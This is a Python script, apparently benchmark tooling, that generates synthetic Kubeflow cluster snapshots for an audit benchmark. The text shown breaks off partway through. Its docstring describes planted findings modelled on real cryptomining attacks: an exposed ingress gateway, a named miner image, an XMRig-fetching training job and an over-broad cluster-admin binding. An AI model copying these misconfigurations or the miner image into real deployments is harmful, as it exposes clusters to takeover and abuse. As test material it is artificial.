#!/usr/bin/env python3
"""A generated snapshot of a multi-tenant Kubeflow cluster, for bench/run_audit_bench.sh.

  make_snapshot.py --format json --objects 50000 [--indent N] [--out-dir out/bench/audit]
  make_snapshot.py --format yaml --objects 5000  [--out-dir out/bench/audit]

Prints the path of the snapshot. JSON is one `{"apiVersion":"v1","items":[...],"kind":"List",
"metadata":{...}}`, the shape `kubectl get -A -o json` gives (status included, no
managedFields), compact by default as the API server sends it (`kubectl get --raw`, `jq -c`);
`--indent 4` writes kubectl's own pretty layout, about twice the bytes for the same values. YAML
is a `---` separated multi-document stream in block style, keys sorted, as `kubectl get -o yaml`
/ kustomize print objects. `--objects 0` writes an empty List (JSON). Next to the snapshot,
FILE.meta.json: objects, bytes, namespaces, objects per kind, object sizes.

Deterministic: a fixed seed per (format, objects), so the same script always writes the same
bytes. Outputs are cached: the file name carries a hash of this script, and an existing file is
reused (stale ones of the same format and size are removed).

The mix is modelled on a real multi-tenant Kubeflow cluster: ~1 Kubeflow profile namespace per
250 objects (200 for 50,000), each with the profile controller's ServiceAccounts, RoleBindings and
Istio AuthorizationPolicies, contributors, ConfigMaps, Secrets (random bytes, no real
credentials), Services (mostly ClusterIP, a few NodePort/LoadBalancer), NetworkPolicies, notebooks
(Notebook + StatefulSet + Service + VirtualService + PVC + Pod), user Deployments, and the bulk:
runs — Argo Workflows with 2-5 templates, TFJobs/PyTorchJobs, Jobs, with the Pods that are still
there (running or failed runs; podGC, ttlSecondsAfterFinished and cleanPodPolicy remove the rest)
— spread unevenly (a few heavy tenants). Platform namespaces
(kubeflow, istio-system, cert-manager, knative-serving, kube-system, ...) carry the control plane,
~140 ClusterRoles (Kubeflow's aggregated ones among them) and ~90 ClusterRoleBindings. Objects
come out in the order kubectl lists them: by type, then namespace and name.

A handful of objects are shaped like the 2020/2021 Kubeflow mining attacks so the audit has
findings: the istio-ingressgateway Service as a LoadBalancer with an external IP and no
AuthorizationPolicy in istio-system (the oauth2-proxy/Dex ones removed), a Notebook running the
miner image `ddsfdfsaadfs/dfsdf:99`, a TFJob whose TensorFlow image downloads and starts XMRig
(named as text only; no wallet), and a ClusterRoleBinding of cluster-admin to a tenant's
default-editor ServiceAccount.
"""
import argparse
import base64
import datetime
import hashlib
import json
import os
import random
import re
import statistics
import sys
import uuid

import yaml

SEED = 20261124
PER_NAMESPACE = 250  # objects per profile namespace, on average

# ---------------------------------------------------------------------------------------------
# Vocabulary

FIRST = ("alice bob carol dave erin frank grace heidi ivan judy mallory niaj olivia peggy rupert "
         "sybil trent victor walter yuki zoe amir bea chen dmitri elena farah goran hana ines jonas "
         "kenji lena marta nour omar priya quinn rosa samir tariq uma vera wen ximena yusuf").split()
LAST = ("smith garcia muller rossi kowalski novak tanaka kim nguyen silva jensen dubois okafor "
        "haddad larsen petrov ivanova moreau schmidt costa").split()
TEAMS = ("vision nlp speech recsys forecasting fraud ranking search ads genomics robotics "
         "pricing churn ocr translation anomaly mlops platform research llm").split()
PROJECTS = ("resnet bert-ft yolo whisper t5 llama-ft clip unet xgb-baseline tabnet gnn "
            "diffusion wav2vec detr retinanet lightgbm prophet deepar sbert mixtral-lora").split()
DATASETS = ("imagenet-1k coco-2017 librispeech squad-v2 c4-en wikitext-103 openwebtext "
            "criteo-1tb movielens-25m cifar-100 kinetics-400 common-voice").split()
PIP = ("transformers==4.41.2 datasets==2.19.1 accelerate==0.30.1 peft==0.11.1 torchvision==0.20.1 "
       "scikit-learn==1.5.0 xgboost==2.0.3 lightgbm==4.3.0 mlflow==2.13.0 wandb==0.17.0 "
       "pandas==2.2.2 pyarrow==16.1.0 boto3==1.34.120 sentencepiece==0.2.0 evaluate==0.4.2").split()

KF = "v1.10.0"
KFP = "2.5.0"
ISTIO = "1.26.1"
ARGO = "v3.5.14"
NOTEBOOK_IMAGES = [
    f"ghcr.io/kubeflow/kubeflow/notebook-servers/jupyter-scipy:{KF}",
    f"ghcr.io/kubeflow/kubeflow/notebook-servers/jupyter-pytorch-cuda-full:{KF}",
    f"ghcr.io/kubeflow/kubeflow/notebook-servers/jupyter-tensorflow-cuda-full:{KF}",
    f"ghcr.io/kubeflow/kubeflow/notebook-servers/jupyter-pytorch-full:{KF}",
    f"ghcr.io/kubeflow/kubeflow/notebook-servers/codeserver-python:{KF}",
    f"ghcr.io/kubeflow/kubeflow/notebook-servers/rstudio-tidyverse:{KF}",
    "docker.io/kubeflownotebookswg/jupyter-scipy:v1.9.2",
    "docker.io/kubeflownotebookswg/jupyter-pytorch-cuda-full:v1.9.2",
]
TRAIN_IMAGES = [
    "docker.io/pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime",
    "docker.io/tensorflow/tensorflow:2.17.0-gpu",
    "nvcr.io/nvidia/pytorch:24.10-py3",
    "docker.io/huggingface/transformers-pytorch-gpu:4.41.2",
    "docker.io/library/python:3.11-slim",
    "docker.io/library/python:3.12-slim",
    "ghcr.io/kubeflow/training-operator/pytorch-dist-mnist:v1-855e096",
]
STEP_IMAGES = TRAIN_IMAGES + [
    "docker.io/library/python:3.10",
    "docker.io/bitnami/spark:3.5.1",
    "docker.io/amazon/aws-cli:2.15.58",
    "docker.io/library/alpine:3.20",
]
ARGOEXEC = f"quay.io/argoproj/argoexec:{ARGO}"
PROXY = f"docker.io/istio/proxyv2:{ISTIO}"

# Resource types in the order `kubectl api-resources` lists them: `kubectl get -A -o json` over
# several types prints items type by type, each sorted by namespace and name.
KIND_ORDER = [
    "Namespace", "ConfigMap", "PersistentVolumeClaim", "Pod", "Secret", "ServiceAccount",
    "Service", "DaemonSet", "Deployment", "StatefulSet", "Job", "NetworkPolicy",
    "ClusterRoleBinding", "ClusterRole", "RoleBinding", "Role", "Workflow", "Profile", "Notebook",
    "TFJob", "PyTorchJob", "AuthorizationPolicy", "Gateway", "VirtualService",
]
KIND_RANK = {k: i for i, k in enumerate(KIND_ORDER)}


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.t0 = datetime.datetime(2025, 3, 1, tzinfo=datetime.timezone.utc)

    # -- small values ------------------------------------------------------------------------
    def choice(self, seq):
        return self.r.choice(seq)

    def uid(self):
        return str(uuid.UUID(int=self.r.getrandbits(128), version=4))

    def hexs(self, n):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def suffix(self, n=5):
        return "".join(self.r.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(n))

    def ts(self, after=None, within_days=600):
        base = after or self.t0
        t = base + datetime.timedelta(seconds=self.r.randint(0, within_days * 86400))
        return t.strftime("%Y-%m-%dT%H:%M:%SZ")

    def later(self, stamp, max_minutes=600):
        t = datetime.datetime.strptime(stamp, "%Y-%m-%dT%H:%M:%SZ")
        return (t + datetime.timedelta(seconds=self.r.randint(5, max_minutes * 60))).strftime("%Y-%m-%dT%H:%M:%SZ")

    def b64(self, lo, hi):
        """Random bytes, base64: stands for a secret value and is none."""
        return base64.b64encode(self.r.randbytes(self.r.randint(lo, hi))).decode()

    def ip(self, prefix="10.244"):
        return f"{prefix}.{self.r.randint(0, 255)}.{self.r.randint(2, 254)}"

    def digest_image(self, image):
        name = image.rsplit(":", 1)[0] if ":" in image.rsplit("/", 1)[-1] else image
        return f"{name}@sha256:{self.hexs(64)}"

    def image(self, pool, digest_share=0.15):
        image = self.choice(pool)
        return self.digest_image(image) if self.r.random() < digest_share else image

    # -- metadata ----------------------------------------------------------------------------
    def meta(self, name, namespace=None, labels=None, annotations=None, owner=None, created=None):
        m = {"name": name}
        if namespace:
            m["namespace"] = namespace
        if annotations:
            m["annotations"] = annotations
        m["creationTimestamp"] = created or self.ts()
        if labels:
            m["labels"] = labels
        if owner:
            m["ownerReferences"] = [dict(owner)]
        m["resourceVersion"] = str(self.r.randint(1_000_000, 900_000_000))
        m["uid"] = self.uid()
        return m

    @staticmethod
    def owner_ref(obj, controller=True):
        ref = {"apiVersion": obj["apiVersion"], "kind": obj["kind"], "name": obj["metadata"]["name"],
               "uid": obj["metadata"]["uid"]}
        if controller:
            ref["blockOwnerDeletion"] = True
            ref["controller"] = True
        return ref

    # -- containers and pods -----------------------------------------------------------------
    def resources(self, gpu=False, big=False):
        cpu = self.choice(["250m", "500m", "1", "2", "4", "8"] if big else ["100m", "250m", "500m", "1"])
        mem = self.choice(["2Gi", "4Gi", "8Gi", "16Gi", "32Gi"] if big else ["256Mi", "512Mi", "1Gi", "2Gi"])
        res = {"limits": {"cpu": cpu, "memory": mem}, "requests": {"cpu": cpu, "memory": mem}}
        if not big and not gpu and self.r.random() < 0.5:
            del res["limits"]
        elif not cpu.endswith("m") and self.r.random() < 0.5:
            res["limits"]["cpu"] = str(int(cpu) * 2)  # burstable
        if gpu:
            res["limits"]["nvidia.com/gpu"] = str(self.choice([1, 1, 1, 2, 4, 8]))
            res["requests"]["nvidia.com/gpu"] = res["limits"]["nvidia.com/gpu"]
        return res

    def env(self, namespace, extra=()):
        env = [{"name": "PYTHONUNBUFFERED", "value": "1"}]
        x = self.r.random()
        if x < 0.3:
            env.append({"name": "MLFLOW_TRACKING_URI", "value": "http://mlflow.mlops.svc.cluster.local:5000"})
        elif x < 0.55:
            env.append({"name": "AWS_SECRET_ACCESS_KEY",
                        "valueFrom": {"secretKeyRef": {"key": "secretkey", "name": "mlpipeline-minio-artifact"}}})
        elif x < 0.7:
            env.append({"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"key": "token", "name": "hf-token"}}})
        elif x < 0.8:
            env.append({"name": "POD_NAMESPACE", "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}}})
        env.extend(extra)
        return env

    def train_command(self, project):
        ds = self.choice(DATASETS)
        pkgs = " ".join(self.r.sample(PIP, self.r.randint(2, 5)))
        kind = self.r.randint(0, 5)
        if kind == 0:
            return ["python", "-m", f"{project.replace('-', '_')}.train"], [
                "--epochs", str(self.r.randint(3, 90)), "--lr", self.choice(["1e-4", "3e-4", "5e-5", "0.01"]),
                "--batch-size", str(self.choice([16, 32, 64, 128, 256])), "--data", f"s3://datasets/{ds}/",
                "--output", f"s3://mlpipeline/models/{project}/"]
        if kind == 1:
            return ["sh", "-c"], [f"pip install -q {pkgs} && python train.py --config /etc/config/train.yaml "
                                  f"--dataset {ds} --seed {self.r.randint(0, 9999)}"]
        if kind == 2:
            return ["torchrun"], [f"--nproc_per_node={self.choice([1, 2, 4, 8])}", "train.py",
                                  "--model", project, "--dataset", ds, "--bf16", "--gradient-checkpointing"]
        if kind == 3:
            return ["/bin/bash", "-c"], [f"set -euo pipefail\nmkdir -p /tmp/work && cd /tmp/work\n"
                                         f"aws s3 cp --recursive s3://datasets/{ds}/ data/\n"
                                         f"python /app/preprocess.py --in data --out /mnt/out --shards {self.r.randint(4, 64)}\n"]
        if kind == 4:
            return ["python", "/app/evaluate.py"], ["--checkpoint", f"/mnt/models/{project}/last.ckpt",
                                                    "--metrics", "accuracy,f1,auroc"]
        return None, ["python", "-c", "import sys, json; print(json.dumps({'ok': True}))"]

    def container(self, name, image, namespace, command=None, args=None, gpu=False, big=False,
                  ports=None, secure=True, mounts=None, env=None):
        c = {"name": name, "image": image}
        if command:
            c["command"] = command
        if args:
            c["args"] = args
        c["env"] = env if env is not None else self.env(namespace)
        c["imagePullPolicy"] = self.choice(["IfNotPresent", "IfNotPresent", "Always"])
        if ports:
            c["ports"] = ports
        c["resources"] = self.resources(gpu=gpu, big=big)
        if secure and self.r.random() < 0.7:
            c["securityContext"] = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]},
                                    "runAsNonRoot": True}
            if self.r.random() < 0.4:
                c["securityContext"]["readOnlyRootFilesystem"] = True
        c["volumeMounts"] = (mounts or []) + [
            {"mountPath": "/var/run/secrets/kubernetes.io/serviceaccount", "name": "kube-api-access-" + self.suffix(),
             "readOnly": True}]
        return c

    def proxy_container(self, namespace):
        """The Istio sidecar, trimmed to what a pod listing shows of it."""
        return {
            "name": "istio-proxy", "image": PROXY,
            "args": ["proxy", "sidecar", "--domain", "$(POD_NAMESPACE).svc.cluster.local", "--proxyLogLevel=warning"],
            "env": [{"name": "CA_ADDR", "value": "istiod.istio-system.svc:15012"},
                    {"name": "POD_NAMESPACE", "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}}}],
            "ports": [{"containerPort": 15090, "name": "http-envoy-prom", "protocol": "TCP"}],
            "resources": {"limits": {"cpu": "2", "memory": "1Gi"}, "requests": {"cpu": "10m", "memory": "40Mi"}},
            "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]},
                                "runAsNonRoot": True, "runAsUser": 1337},
        }

    def pod_spec(self, containers, sa, volumes=(), init=None, node_gpu=False, restart="Always", node=None):
        spec = {"containers": containers}
        if init:
            spec["initContainers"] = init
        spec["dnsPolicy"] = "ClusterFirst"
        spec["enableServiceLinks"] = True
        if node:
            spec["nodeName"] = node
        if node_gpu:
            spec["nodeSelector"] = {"nvidia.com/gpu.present": "true"}
            spec["tolerations"] = [{"effect": "NoSchedule", "key": "nvidia.com/gpu", "operator": "Exists"}]
        spec["restartPolicy"] = restart
        spec["schedulerName"] = "default-scheduler"
        spec["securityContext"] = {"fsGroup": 100, "runAsUser": 1000} if self.r.random() < 0.7 else {}
        spec["serviceAccountName"] = sa
        spec["terminationGracePeriodSeconds"] = 30
        vols = list(volumes) + [{
            "name": "kube-api-access-" + self.suffix(),
            "projected": {"defaultMode": 420, "sources": [
                {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                {"configMap": {"items": [{"key": "ca.crt", "path": "ca.crt"}], "name": "kube-root-ca.crt"}},
                {"downwardAPI": {"items": [{"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"},
                                            "path": "namespace"}]}}]}}]
        spec["volumes"] = vols
        return spec

    def pod_status(self, containers, created, finished=False, failed=False):
        start = self.later(created, 3)
        phase = "Failed" if failed else ("Succeeded" if finished else "Running")
        statuses = []
        for c in containers:
            st = {"image": c["image"],
                  "imageID": c["image"].split("@")[0].rsplit(":", 1)[0] + "@sha256:" + self.hexs(64),
                  "name": c["name"], "ready": not finished, "restartCount": self.choice([0, 0, 0, 0, 1, 2])}
            if finished:
                st["state"] = {"terminated": {"exitCode": 1 if failed else 0,
                                              "finishedAt": self.later(start, 300), "reason": "Error" if failed else "Completed",
                                              "startedAt": start}}
            else:
                st["state"] = {"running": {"startedAt": start}}
            statuses.append(st)
        ip = self.ip()
        return {
            "conditions": [{"lastTransitionTime": start, "status": "True", "type": t}
                           for t in ("Initialized", "Ready", "ContainersReady", "PodScheduled")],
            "containerStatuses": statuses, "hostIP": self.ip("10.0"), "phase": phase, "podIP": ip,
            "podIPs": [{"ip": ip}], "qosClass": self.choice(["Burstable", "Guaranteed", "BestEffort"]),
            "startTime": start}

    def pod(self, name, namespace, labels, containers, sa, owner=None, volumes=(), created=None, finished=False,
            failed=False, gpu=False, sidecar=True, annotations=None, restart="Always"):
        created = created or self.ts()
        if sidecar:
            containers = containers + [self.proxy_container(namespace)]
            labels = dict(labels, **{"security.istio.io/tlsMode": "istio",
                                     "service.istio.io/canonical-name": labels.get("app", name)})
            annotations = dict(annotations or {}, **{"sidecar.istio.io/status": json.dumps(
                {"initContainers": ["istio-init"], "containers": ["istio-proxy"],
                 "volumes": ["istio-envoy", "istio-data", "istio-podinfo", "istio-token", "istiod-ca-cert"],
                 "revision": "default"}, separators=(",", ":"))})
        node = f"gke-ml-{self.choice(['cpu', 'gpu-a100', 'gpu-l4', 'highmem'])}-{self.suffix(8)}"
        return {
            "apiVersion": "v1", "kind": "Pod",
            "metadata": self.meta(name, namespace, labels, annotations, owner, created),
            "spec": self.pod_spec(containers, sa, volumes, node_gpu=gpu, restart=restart, node=node),
            "status": self.pod_status(containers, created, finished, failed),
        }


# ---------------------------------------------------------------------------------------------
# Platform (cluster-scoped objects and the system namespaces)

SYSTEM_NAMESPACES = ["default", "kube-system", "kube-public", "kube-node-lease", "istio-system", "kubeflow",
                     "cert-manager", "knative-serving", "auth", "oauth2-proxy", "mlops"]

PLATFORM_APPS = [
    # namespace, name, image, port, service type
    ("kubeflow", "centraldashboard", f"ghcr.io/kubeflow/kubeflow/central-dashboard:{KF}", 8082),
    ("kubeflow", "jupyter-web-app-deployment", f"ghcr.io/kubeflow/kubeflow/jupyter-web-app:{KF}", 5000),
    ("kubeflow", "notebook-controller-deployment", f"ghcr.io/kubeflow/kubeflow/notebook-controller:{KF}", 8080),
    ("kubeflow", "profiles-deployment", f"ghcr.io/kubeflow/kubeflow/profile-controller:{KF}", 8080),
    ("kubeflow", "volumes-web-app-deployment", f"ghcr.io/kubeflow/kubeflow/volumes-web-app:{KF}", 5000),
    ("kubeflow", "tensorboards-web-app-deployment", f"ghcr.io/kubeflow/kubeflow/tensorboards-web-app:{KF}", 5000),
    ("kubeflow", "admission-webhook-deployment", f"ghcr.io/kubeflow/kubeflow/poddefaults-webhook:{KF}", 4443),
    ("kubeflow", "ml-pipeline", f"ghcr.io/kubeflow/kfp-api-server:{KFP}", 8888),
    ("kubeflow", "ml-pipeline-ui", f"ghcr.io/kubeflow/kfp-frontend:{KFP}", 3000),
    ("kubeflow", "ml-pipeline-persistenceagent", f"ghcr.io/kubeflow/kfp-persistence-agent:{KFP}", 0),
    ("kubeflow", "ml-pipeline-scheduledworkflow", f"ghcr.io/kubeflow/kfp-scheduled-workflow-controller:{KFP}", 0),
    ("kubeflow", "cache-server", f"ghcr.io/kubeflow/kfp-cache-server:{KFP}", 8443),
    ("kubeflow", "metadata-grpc-deployment", "gcr.io/tfx-oss-public/ml_metadata_store_server:1.14.0", 8080),
    ("kubeflow", "metadata-writer", f"ghcr.io/kubeflow/kfp-metadata-writer:{KFP}", 0),
    ("kubeflow", "minio", "gcr.io/ml-pipeline/minio:RELEASE.2019-08-14T20-37-41Z-license-compliance", 9000),
    ("kubeflow", "mysql", "docker.io/library/mysql:8.0.29", 3306),
    ("kubeflow", "workflow-controller", f"quay.io/argoproj/workflow-controller:{ARGO}", 9090),
    ("kubeflow", "training-operator", "docker.io/kubeflow/training-operator:v1-855e096", 8080),
    ("kubeflow", "katib-controller", "docker.io/kubeflowkatib/katib-controller:v0.18.0", 8443),
    ("kubeflow", "katib-ui", "docker.io/kubeflowkatib/katib-ui:v0.18.0", 8080),
    ("kubeflow", "katib-db-manager", "docker.io/kubeflowkatib/katib-db-manager:v0.18.0", 6789),
    ("kubeflow", "kserve-controller-manager", "docker.io/kserve/kserve-controller:v0.15.0", 8443),
    ("kubeflow", "kserve-models-web-app", "docker.io/kserve/models-web-app:v0.14.0", 5000),
    ("istio-system", "istiod", f"docker.io/istio/pilot:{ISTIO}", 15010),
    ("istio-system", "istio-ingressgateway", PROXY, 8080),
    ("istio-system", "cluster-local-gateway", PROXY, 8080),
    ("cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller:v1.16.1", 9402),
    ("cert-manager", "cert-manager-cainjector", "quay.io/jetstack/cert-manager-cainjector:v1.16.1", 0),
    ("cert-manager", "cert-manager-webhook", "quay.io/jetstack/cert-manager-webhook:v1.16.1", 10250),
    ("knative-serving", "activator", "gcr.io/knative-releases/knative.dev/serving/cmd/activator", 8012),
    ("knative-serving", "autoscaler", "gcr.io/knative-releases/knative.dev/serving/cmd/autoscaler", 8080),
    ("knative-serving", "controller", "gcr.io/knative-releases/knative.dev/serving/cmd/controller", 9090),
    ("knative-serving", "webhook", "gcr.io/knative-releases/knative.dev/serving/cmd/webhook", 8443),
    ("knative-serving", "net-istio-controller", "gcr.io/knative-releases/knative.dev/net-istio/cmd/controller", 0),
    ("auth", "dex", "ghcr.io/dexidp/dex:v2.41.1", 5556),
    ("oauth2-proxy", "oauth2-proxy", "quay.io/oauth2-proxy/oauth2-proxy:v7.7.1", 4180),
    ("kube-system", "coredns", "registry.k8s.io/coredns/coredns:v1.11.1", 53),
    ("kube-system", "metrics-server", "registry.k8s.io/metrics-server/metrics-server:v0.7.1", 10250),
    ("mlops", "mlflow", "ghcr.io/mlflow/mlflow:v2.13.0", 5000),
]

VERBS_ALL = ["create", "delete", "deletecollection", "get", "list", "patch", "update", "watch"]
VERBS_READ = ["get", "list", "watch"]


def rule(groups, resources, verbs, names=None):
    r = {"apiGroups": groups, "resources": resources, "verbs": verbs}
    if names:
        r["resourceNames"] = names
    return r


def kubeflow_cluster_roles(g):
    """Kubeflow's aggregated roles: kubeflow-admin/edit/view aggregate the per-component ones
    (kubeflow/manifests: kubeflow-roles and each component's cluster-role.yaml)."""
    to = "rbac.authorization.kubeflow.org/aggregate-to-kubeflow-"
    out = []
    top_labels = {"admin": {}, "edit": {to + "admin": "true"}, "view": {to + "edit": "true"}}
    for level in ("admin", "edit", "view"):
        verbs = VERBS_ALL if level != "view" else VERBS_READ
        out.append({"aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {to + level: "true"}}]},
                    "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                    "metadata": g.meta(f"kubeflow-{level}", labels=dict(top_labels[level], **{"app.kubernetes.io/part-of": "kubeflow"})),
                    "rules": [rule(["kubeflow.org"], ["notebooks", "tfjobs", "pytorchjobs", "profiles"], verbs),
                              rule([""], ["pods", "pods/log", "services", "configmaps", "persistentvolumeclaims", "secrets"]
                                   if level != "view" else ["pods", "pods/log", "services"], verbs),
                              rule(["argoproj.io"], ["workflows", "workflowtemplates", "cronworkflows"], verbs)]})
    components = {
        "kubernetes": [rule([""], ["pods/attach", "pods/exec", "pods/portforward", "pods/proxy", "secrets", "services/proxy"], VERBS_ALL),
                       rule(["apps"], ["deployments", "statefulsets", "replicasets", "daemonsets"], VERBS_ALL),
                       rule(["batch"], ["jobs", "cronjobs"], VERBS_ALL)],
        "notebooks": [rule(["kubeflow.org"], ["notebooks", "notebooks/status"], VERBS_ALL)],
        "pipelines": [rule(["pipelines.kubeflow.org"], ["pipelines", "pipelines/versions", "experiments", "runs", "jobs"],
                           VERBS_ALL + ["archive", "retry", "unarchive"]),
                      rule(["argoproj.io"], ["workflows"], VERBS_ALL)],
        "training": [rule(["kubeflow.org"], ["tfjobs", "pytorchjobs", "mpijobs", "xgboostjobs", "paddlejobs"], VERBS_ALL)],
        "katib": [rule(["kubeflow.org"], ["experiments", "trials", "suggestions"], VERBS_ALL)],
        "kserve": [rule(["serving.kserve.io"], ["inferenceservices", "servingruntimes"], VERBS_ALL)],
        "poddefaults": [rule(["kubeflow.org"], ["poddefaults"], VERBS_ALL)],
        "tensorboards": [rule(["tensorboard.kubeflow.org"], ["tensorboards"], VERBS_ALL)],
        "volumes": [rule([""], ["persistentvolumeclaims"], VERBS_ALL)],
    }
    for comp, rules in components.items():
        for level in ("admin", "edit", "view"):
            labels = {to + level: "true", "app.kubernetes.io/component": comp}
            if level == "edit":
                labels[f"{to}{comp}-admin"] = "true"
            cr = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                  "metadata": g.meta(f"kubeflow-{comp}-{level}", labels=labels),
                  "rules": rules if level != "view" else [dict(r, verbs=VERBS_READ) for r in rules]}
            if level == "admin":
                cr = {"aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {f"{to}{comp}-admin": "true"}}]}, **cr}
            out.append(cr)
    return out


def platform(g):
    objs = []
    for ns in SYSTEM_NAMESPACES:
        labels = {"kubernetes.io/metadata.name": ns}
        if ns in ("kubeflow", "knative-serving", "mlops"):
            labels["istio-injection"] = "enabled" if ns != "kubeflow" else "disabled"
        objs.append({"apiVersion": "v1", "kind": "Namespace", "metadata": g.meta(ns, labels=labels),
                     "spec": {"finalizers": ["kubernetes"]}, "status": {"phase": "Active"}})
    # Built-in and add-on ClusterRoles.
    sys_roles = ["admin", "edit", "view", "cluster-admin"] + [f"system:{n}" for n in (
        "aggregate-to-admin aggregate-to-edit aggregate-to-view auth-delegator basic-user certificates.k8s.io:certificatesigningrequests:nodeclient "
        "certificates.k8s.io:certificatesigningrequests:selfnodeclient controller:attachdetach-controller controller:clusterrole-aggregation-controller "
        "controller:cronjob-controller controller:daemon-set-controller controller:deployment-controller controller:disruption-controller "
        "controller:endpoint-controller controller:endpointslice-controller controller:ephemeral-volume-controller controller:expand-controller "
        "controller:generic-garbage-collector controller:horizontal-pod-autoscaler controller:job-controller controller:namespace-controller "
        "controller:node-controller controller:persistent-volume-binder controller:pod-garbage-collector controller:pv-protection-controller "
        "controller:pvc-protection-controller controller:replicaset-controller controller:replication-controller controller:resourcequota-controller "
        "controller:root-ca-cert-publisher controller:route-controller controller:service-account-controller controller:service-controller "
        "controller:statefulset-controller controller:ttl-after-finished-controller controller:ttl-controller coredns discovery heapster "
        "kube-aggregator kube-controller-manager kube-dns kube-scheduler kubelet-api-admin metrics-server monitoring node node-bootstrapper "
        "node-problem-detector node-proxier persistent-volume-provisioner public-info-viewer service-account-issuer-discovery volume-scheduler").split()]
    addon_roles = ["istiod-clusterrole-istio-system", "istiod-gateway-controller-istio-system", "istio-reader-clusterrole-istio-system",
                   "cert-manager-cainjector", "cert-manager-controller-approve:cert-manager-io", "cert-manager-controller-certificates",
                   "cert-manager-controller-certificatesigningrequests", "cert-manager-controller-challenges", "cert-manager-controller-clusterissuers",
                   "cert-manager-controller-ingress-shim", "cert-manager-controller-issuers", "cert-manager-controller-orders", "cert-manager-edit",
                   "cert-manager-view", "cert-manager-webhook:subjectaccessreviews", "knative-serving-activator-cluster", "knative-serving-addressable-resolver",
                   "knative-serving-admin", "knative-serving-aggregated-addressable-resolver", "knative-serving-core", "knative-serving-istio",
                   "knative-serving-namespaced-admin", "knative-serving-namespaced-edit", "knative-serving-namespaced-view", "knative-serving-podspecable-binding",
                   "ml-pipeline", "ml-pipeline-ui", "ml-pipeline-persistenceagent-role", "ml-pipeline-scheduledworkflow-role", "ml-pipeline-viewer-controller-role",
                   "kubeflow-pipelines-cache-role", "kubeflow-pipelines-metadata-writer-role", "argo-aggregate-to-admin", "argo-aggregate-to-edit",
                   "argo-aggregate-to-view", "argo-cluster-role", "argo-server-cluster-role", "notebook-controller-role", "notebook-controller-kubeflow-notebooks-admin",
                   "profiles-cluster-role", "training-operator", "katib-controller", "katib-ui", "kserve-manager-role", "kserve-proxy-role",
                   "centraldashboard", "jupyter-web-app-cluster-role", "volumes-web-app-cluster-role", "tensorboards-web-app-cluster-role",
                   "admission-webhook-cluster-role", "oauth2-proxy", "dex", "metrics-server:system:auth-delegator", "nvidia-device-plugin"]
    groups = ["", "apps", "batch", "networking.k8s.io", "rbac.authorization.k8s.io", "kubeflow.org", "argoproj.io",
              "networking.istio.io", "security.istio.io", "cert-manager.io", "serving.knative.dev", "coordination.k8s.io"]
    resources = ["pods", "services", "endpoints", "configmaps", "secrets", "events", "namespaces", "nodes", "deployments",
                 "statefulsets", "jobs", "leases", "workflows", "notebooks", "virtualservices", "gateways",
                 "authorizationpolicies", "certificates", "issuers", "serviceaccounts", "persistentvolumeclaims"]
    for name in sys_roles + addon_roles:
        if name == "cluster-admin":
            rules = [rule(["*"], ["*"], ["*"]), {"nonResourceURLs": ["*"], "verbs": ["*"]}]
        else:
            rules = [rule(g.r.sample(groups, g.r.randint(1, 3)), g.r.sample(resources, g.r.randint(1, 6)),
                          g.choice([VERBS_READ, VERBS_ALL, ["get"], ["create", "patch", "update"]]))
                     for _ in range(g.r.randint(2, 9))]
        labels = {"kubernetes.io/bootstrapping": "rbac-defaults"} if name.startswith("system:") or name in ("admin", "edit", "view", "cluster-admin") else {"app.kubernetes.io/part-of": "kubeflow"}
        annotations = {"rbac.authorization.kubernetes.io/autoupdate": "true"} if "bootstrapping" in str(labels) else None
        cr = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
              "metadata": g.meta(name, labels=labels, annotations=annotations), "rules": rules}
        if name in ("admin", "edit", "view"):
            cr["aggregationRule"] = {"clusterRoleSelectors": [{"matchLabels": {f"rbac.authorization.k8s.io/aggregate-to-{name}": "true"}}]}
        objs.append(cr)
    objs.extend(kubeflow_cluster_roles(g))
    role_names = [o["metadata"]["name"] for o in objs if o["kind"] == "ClusterRole"]
    # ClusterRoleBindings: one per add-on role to its service account, plus the system ones.
    for name in role_names:
        if name.startswith("kubeflow-") or name in ("admin", "edit", "view"):
            continue
        if name.startswith("system:") and g.r.random() < 0.45:
            continue
        ns = "kube-system" if name.startswith("system:") else g.choice(["kubeflow", "istio-system", "cert-manager", "knative-serving"])
        sa = name.split(":")[-1].replace("-role", "").replace("-cluster", "")[:50]
        subject = ({"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:masters"} if name == "cluster-admin"
                   else {"kind": "ServiceAccount", "name": sa, "namespace": ns})
        objs.append({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
                     "metadata": g.meta(name, labels={"app.kubernetes.io/part-of": "kubeflow"} if not name.startswith("system:") else None),
                     "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": name},
                     "subjects": [subject]})
    # Workloads of the platform: Deployment, its Pod(s), Service, ServiceAccount, ConfigMap.
    for ns, name, image, port in PLATFORM_APPS:
        app = name.replace("-deployment", "")
        labels = {"app": app, "app.kubernetes.io/component": app, "app.kubernetes.io/part-of": "kubeflow" if ns == "kubeflow" else ns}
        sa = app + "-service-account" if ns != "kube-system" else app
        objs.append({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": g.meta(sa, ns, labels)})
        ports = [{"containerPort": port, "name": "http", "protocol": "TCP"}] if port else None
        args = ["proxy", "router", "--domain", "$(POD_NAMESPACE).svc.cluster.local"] if "gateway" in name else None
        if name == "istio-ingressgateway":
            labels = dict(labels, istio="ingressgateway")
